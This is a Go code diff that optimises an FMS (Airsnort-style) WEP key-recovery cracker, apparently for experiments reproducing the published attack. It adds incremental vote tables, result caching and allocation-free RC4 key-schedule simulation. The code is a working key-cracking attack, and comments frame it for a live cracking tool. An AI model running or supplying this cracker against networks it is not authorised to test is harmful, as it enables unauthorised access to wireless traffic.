@@ -1,6 +1,7 @@
 package wep
 
 import (
+	"bytes"
 	"errors"
 )
 
@@ -27,24 +28,58 @@ func SampleFromSealed(sealed []byte, firstPlain byte) (Sample, error) {
 	return Sample{IV: iv, K0: sealed[HeaderLen] ^ firstPlain}, nil
 }
 
+// voteTable is the standing FMS vote for one key byte, valid for one specific
+// recovered prefix. Samples are folded in incrementally: applied counts how
+// many of the byte's samples have voted under the current prefix, so a new
+// capture costs one fmsVote instead of a full recount — the shape of a live
+// Airsnort-style tool, which keeps running statistics over the stream rather
+// than re-deriving them per crack attempt.
+type voteTable struct {
+	votes   [256]int32
+	prefix  [KeySize104]byte // key prefix the votes were computed under
+	applied int              // samples folded into votes so far
+	total   int              // resolved (voting) samples among applied
+	ok      bool             // table initialised (prefix[:b] is meaningful)
+}
+
 // Cracker accumulates weak-IV samples and recovers the WEP root key with the
 // Fluhrer–Mantin–Shamir attack, the algorithm behind Airsnort. It recovers
 // key bytes in order: byte B needs samples with IV = (B+3, 255, x), and each
 // such "resolved" sample votes for a candidate value with ~5% advantage over
 // noise.
+//
+// Vote state is maintained incrementally: AddSample folds a weak sample into
+// the standing vote table for its key byte in O(1) amortized time while the
+// recovered prefix is unchanged; a table is recomputed from the retained
+// samples only when backtracking changes an earlier key byte (dirty-prefix
+// invalidation). RecoverKey with no new weak samples since the last attempt
+// is a no-op returning the cached outcome.
 type Cracker struct {
 	keyLen int
-	// samples[b] holds weak samples targeting key byte b.
+	// samples[b] holds weak samples targeting key byte b. They are retained
+	// (not just folded and dropped) so a dirty-prefix invalidation can
+	// rebuild the vote table for a different prefix.
 	samples [][]Sample
+	// tables[b] is the standing vote for key byte b.
+	tables []voteTable
 	// Frames counts every frame offered, weak or not — the paper-relevant
 	// cost metric (how much traffic Airsnort must observe).
 	Frames uint64
 	// WeakFrames counts frames with FMS-weak IVs.
 	WeakFrames uint64
 	// Verify, if non-nil, is consulted with a candidate key and should
-	// report whether it decrypts real traffic (e.g. checks an ICV).
-	// Without it, RecoverKey trusts the vote winner.
+	// report whether it decrypts real traffic (e.g. checks an ICV). It must
+	// be deterministic for a given candidate: RecoverKey caches its outcome
+	// until new weak samples arrive. Without it, RecoverKey trusts the vote
+	// winner.
 	Verify func(Key) bool
+
+	// Early-out cache: the outcome of the last attempt, valid while no new
+	// weak samples arrive.
+	attempted  bool
+	weakAtLast uint64
+	lastKey    Key
+	lastErr    error
 }
 
 // NewCracker returns a cracker for keys of keyLen bytes (KeySize40 or
@@ -53,18 +88,71 @@ func NewCracker(keyLen int) *Cracker {
 	if keyLen != KeySize40 && keyLen != KeySize104 {
 		panic("wep: bad key length")
 	}
-	return &Cracker{keyLen: keyLen, samples: make([][]Sample, keyLen)}
+	c := &Cracker{
+		keyLen:  keyLen,
+		samples: make([][]Sample, keyLen),
+		tables:  make([]voteTable, keyLen),
+	}
+	// Byte 0 depends on no recovered prefix, so its table is live from the
+	// first capture.
+	c.tables[0].ok = true
+	return c
 }
 
-// AddSample offers one captured sample to the cracker.
+// IsWeakIV reports whether iv belongs to the FMS-weak family (B+3, 255, x)
+// for keys of keyLen bytes — the IVs that make key byte B's vote resolvable.
+// Capture pipelines use it to discard strong frames before doing any RC4 or
+// known-plaintext work, the same filter-first shape as Airsnort: the cracker
+// never reads K0 of a strong frame.
+func IsWeakIV(iv IV, keyLen int) bool {
+	b := int(iv[0]) - 3
+	return iv[1] == 0xff && b >= 0 && b < keyLen
+}
+
+// AddSample offers one captured sample to the cracker. Weak samples are
+// retained and, when the target byte's vote table is current, folded into it
+// immediately — O(1) amortized per weak frame while the recovered prefix is
+// unchanged.
 func (c *Cracker) AddSample(s Sample) {
 	c.Frames++
-	b := int(s.IV[0]) - 3
-	if s.IV[1] != 0xff || b < 0 || b >= c.keyLen {
+	if !IsWeakIV(s.IV, c.keyLen) {
 		return
 	}
+	b := int(s.IV[0]) - 3
 	c.WeakFrames++
 	c.samples[b] = append(c.samples[b], s)
+	if t := &c.tables[b]; t.ok && t.applied == len(c.samples[b])-1 {
+		c.fold(t, b, s)
+	}
+}
+
+// fold applies one sample's vote to a table under the table's own prefix.
+func (c *Cracker) fold(t *voteTable, b int, s Sample) {
+	if v, ok := fmsVote(s.IV, t.prefix[:b], s.K0); ok {
+		t.votes[v]++
+		t.total++
+	}
+	t.applied++
+}
+
+// ensure returns key byte b's vote table, valid for the given prefix: it
+// folds in any samples that arrived since the last use, and rebuilds from
+// the retained samples when the prefix changed (dirty-prefix invalidation —
+// backtracking revised an earlier byte, so every vote is stale).
+func (c *Cracker) ensure(b int, prefix Key) *voteTable {
+	t := &c.tables[b]
+	if !t.ok || !bytes.Equal(t.prefix[:b], prefix) {
+		t.votes = [256]int32{}
+		t.total = 0
+		t.applied = 0
+		copy(t.prefix[:b], prefix)
+		t.ok = true
+	}
+	pending := c.samples[b][t.applied:]
+	for i := range pending {
+		c.fold(t, b, pending[i])
+	}
+	return t
 }
 
 // AddSealed offers a full on-air WEP payload, assuming a SNAP first byte.
@@ -86,16 +174,39 @@ const minVotes = 8
 // RecoverKey attempts to recover the root key from the accumulated samples.
 // With a Verify callback it searches the top vote candidates per byte;
 // without one it takes each byte's plurality winner.
+//
+// When no weak samples have arrived since the previous attempt the call is a
+// no-op: the samples are unchanged, so the outcome is too, and the cached
+// result is returned without touching the vote tables. This makes the
+// poll-after-every-capture-burst loop of a live cracking tool cheap.
 func (c *Cracker) RecoverKey() (Key, error) {
-	key := make(Key, c.keyLen)
-	cands := make([][]byte, c.keyLen)
+	if c.attempted && c.WeakFrames == c.weakAtLast {
+		if c.lastKey == nil {
+			return nil, c.lastErr
+		}
+		return append(Key(nil), c.lastKey...), c.lastErr
+	}
+	key, err := c.recover()
+	c.attempted = true
+	c.weakAtLast = c.WeakFrames
+	c.lastErr = err
+	if key == nil {
+		c.lastKey = nil
+	} else {
+		c.lastKey = append(c.lastKey[:0], key...)
+	}
+	return key, err
+}
+
+// recover runs one full recovery attempt over the current samples.
+func (c *Cracker) recover() (Key, error) {
+	key := make(Key, 0, c.keyLen)
+	var top [1]byte
 	for b := 0; b < c.keyLen; b++ {
-		ranked, total := c.voteByte(b, key[:b])
-		if total < minVotes {
+		if c.voteByte(b, key, top[:]) < minVotes {
 			return nil, ErrNotEnough
 		}
-		cands[b] = ranked
-		key[b] = ranked[0]
+		key = append(key, top[0])
 	}
 	if c.Verify == nil {
 		return key, nil
@@ -110,8 +221,9 @@ func (c *Cracker) RecoverKey() (Key, error) {
 	// combinations.
 	const width = 3
 	budget := 256 * c.keyLen
-	var search func(b int, prefix Key) (Key, bool)
-	search = func(b int, prefix Key) (Key, bool) {
+	prefix := key[:0]
+	var search func(b int) (Key, bool)
+	search = func(b int) (Key, bool) {
 		if budget <= 0 {
 			return nil, false
 		}
@@ -123,101 +235,168 @@ func (c *Cracker) RecoverKey() (Key, error) {
 			}
 			return nil, false
 		}
-		ranked, total := c.voteByte(b, prefix)
-		if total < minVotes {
+		var cands [width]byte
+		if c.voteByte(b, prefix, cands[:]) < minVotes {
 			return nil, false
 		}
-		n := width
-		if n > len(ranked) {
-			n = len(ranked)
-		}
-		for _, cand := range ranked[:n] {
-			if k, ok := search(b+1, append(prefix, cand)); ok {
+		for _, cand := range cands {
+			prefix = append(prefix, cand)
+			if k, ok := search(b + 1); ok {
 				return k, true
 			}
+			prefix = prefix[:b]
 		}
 		return nil, false
 	}
-	if k, ok := search(0, make(Key, 0, c.keyLen)); ok {
+	if k, ok := search(0); ok {
 		return k, nil
 	}
 	return nil, ErrNotEnough
 }
 
 // voteByte runs the FMS vote for key byte b given the already-recovered
-// prefix, returning candidate values ranked by vote count and the number of
-// resolved samples that voted.
-func (c *Cracker) voteByte(b int, prefix Key) ([]byte, int) {
-	var votes [256]int
-	total := 0
-	for _, s := range c.samples[b] {
-		if v, ok := fmsVote(s.IV, prefix, s.K0); ok {
-			votes[v]++
-			total++
-		}
+// prefix, filling out with the top-len(out) candidate values and returning
+// the number of resolved samples that voted.
+//
+// Ranking contract: candidates are ordered by descending vote count, and
+// candidates with EQUAL vote counts are ordered by ascending byte value.
+// out's contents are exactly the first len(out) entries of that full
+// ranking. The tie-break matters: with thin samples many candidates share a
+// vote count, and both the plurality winner and the backtracking search
+// order must be a pure function of the votes, never of visit order.
+func (c *Cracker) voteByte(b int, prefix Key, out []byte) int {
+	t := c.ensure(b, prefix)
+	rankVotes(&t.votes, out)
+	return t.total
+}
+
+// rankVotes writes the top-len(out) candidates of a 256-way vote into out,
+// in descending vote order with equal votes ranked by ascending byte value —
+// the prefix of the full stable ranking (see voteByte). Each slot is a
+// deterministic scan for the best not-yet-emitted candidate: O(len(out)·256)
+// and allocation-free, versus the O(256²) full selection sort it replaced.
+func rankVotes(votes *[256]int32, out []byte) {
+	if len(out) > 256 {
+		out = out[:256]
 	}
-	ranked := make([]byte, 256)
-	for i := range ranked {
-		ranked[i] = byte(i)
-	}
-	// Selection-style ordering by descending votes (stable by value).
-	for i := 0; i < len(ranked); i++ {
-		best := i
-		for j := i + 1; j < len(ranked); j++ {
-			if votes[ranked[j]] > votes[ranked[best]] {
-				best = j
+	prevV := int32(1<<31 - 1)
+	prevB := -1
+	for k := range out {
+		bestB := -1
+		var bestV int32
+		for cand := 0; cand < 256; cand++ {
+			v := votes[cand]
+			// Skip candidates at or before the previous emission in the
+			// ranking order.
+			if v > prevV || (v == prevV && cand <= prevB) {
+				continue
+			}
+			if bestB < 0 || v > bestV {
+				bestB, bestV = cand, v
 			}
 		}
-		ranked[i], ranked[best] = ranked[best], ranked[i]
+		out[k] = byte(bestB)
+		prevV, prevB = bestV, bestB
 	}
-	return ranked, total
+}
+
+// maxKSASteps bounds the KSA simulation depth: IV plus the longest
+// recoverable prefix (the last byte of a 104-bit key).
+const maxKSASteps = IVLen + KeySize104
+
+// ksaOverlay is a sparse view of the RC4 S-box during the first few KSA
+// steps. The state starts as the identity permutation and fmsVote performs at
+// most maxKSASteps swaps, so at most 2·maxKSASteps positions ever differ from
+// identity; tracking only those avoids the 256-entry initialisation and any
+// allocation. slot is a sparse-set index: slot[i] names the entry holding
+// position i, and is trusted only if that entry points back at i — so a
+// zero-valued overlay is valid as-is and get/set are O(1), which matters
+// because the 104-bit recovery refolds votes heavily while backtracking.
+type ksaOverlay struct {
+	pos  [2 * maxKSASteps]uint8
+	val  [2 * maxKSASteps]uint8
+	slot [256]uint8
+	n    int
+}
+
+// get returns S[i].
+func (o *ksaOverlay) get(i uint8) uint8 {
+	if k := o.slot[i]; int(k) < o.n && o.pos[k] == i {
+		return o.val[k]
+	}
+	return i
+}
+
+// set assigns S[i] = v.
+func (o *ksaOverlay) set(i, v uint8) {
+	if k := o.slot[i]; int(k) < o.n && o.pos[k] == i {
+		o.val[k] = v
+		return
+	}
+	o.pos[o.n], o.val[o.n] = i, v
+	o.slot[i] = uint8(o.n)
+	o.n++
 }
 
 // fmsVote simulates the first b+3 steps of the RC4 KSA with the known IV and
 // recovered key prefix, applies the FMS "resolved" condition, and if it
 // holds, derives the candidate value for key byte b implied by the observed
-// first keystream byte k0.
-func fmsVote(iv IV, prefix Key, k0 byte) (byte, bool) {
-	b := len(prefix)
-	known := make([]byte, 0, IVLen+b)
-	known = append(known, iv[:]...)
-	known = append(known, prefix...)
-	steps := b + 3
+// first keystream byte k0. It is allocation-free; see ksaOverlay.
+func fmsVote(iv IV, prefix []byte, k0 byte) (byte, bool) {
+	steps := len(prefix) + IVLen
 
-	var s [256]int
-	for i := range s {
-		s[i] = i
-	}
-	j := 0
+	var s ksaOverlay
+	var j uint8
 	for i := 0; i < steps; i++ {
-		j = (j + s[i] + int(known[i])) & 0xff
-		s[i], s[j] = s[j], s[i]
+		var kb byte
+		if i < IVLen {
+			kb = iv[i]
+		} else {
+			kb = prefix[i-IVLen]
+		}
+		si := s.get(uint8(i))
+		j += si + kb
+		sj := s.get(j)
+		s.set(uint8(i), sj)
+		s.set(j, si)
 	}
 	// Resolved condition: the first output byte will, with ~e^-3
 	// probability, be the value swapped into position steps at the next KSA
 	// step, which exposes the key byte.
-	if s[1] >= steps {
+	s1 := s.get(1)
+	if int(s1) >= steps {
 		return 0, false
 	}
-	if (s[1]+s[s[1]])&0xff != steps {
+	if (int(s1)+int(s.get(s1)))&0xff != steps {
 		return 0, false
 	}
-	var inv [256]int
-	for i, v := range s {
-		inv[v] = i
+	// inv[k0]: the value k0 still sits at position k0 unless one of the
+	// swaps above moved it, in which case it lives at a touched position.
+	pos := int(k0)
+	for k := 0; k < s.n; k++ {
+		if s.val[k] == k0 {
+			pos = int(s.pos[k])
+			break
+		}
 	}
-	vote := (inv[int(k0)] - j - s[steps]) & 0xff
+	vote := (pos - int(j) - int(s.get(uint8(steps)))) & 0xff
 	return byte(vote), true
 }
 
 // FirstKeystreamByte computes only the first RC4 keystream byte for
 // IV||key — a fast path for experiment harnesses that must generate very
-// large captures without paying for full frame encryption.
+// large captures without paying for full frame encryption. The per-frame
+// cipher lives on the stack (see RC4.Reset): zero allocations.
 func FirstKeystreamByte(key Key, iv IV) byte {
-	perFrame := make([]byte, 0, IVLen+len(key))
+	var buf [maxKeySize]byte
+	perFrame := buf[:0]
+	if IVLen+len(key) > len(buf) {
+		perFrame = make([]byte, 0, IVLen+len(key))
+	}
 	perFrame = append(perFrame, iv[:]...)
 	perFrame = append(perFrame, key...)
-	c := NewRC4(perFrame)
+	var c RC4
+	c.Reset(perFrame)
 	var b [1]byte
 	c.XORKeyStream(b[:], b[:])
 	return b[0]
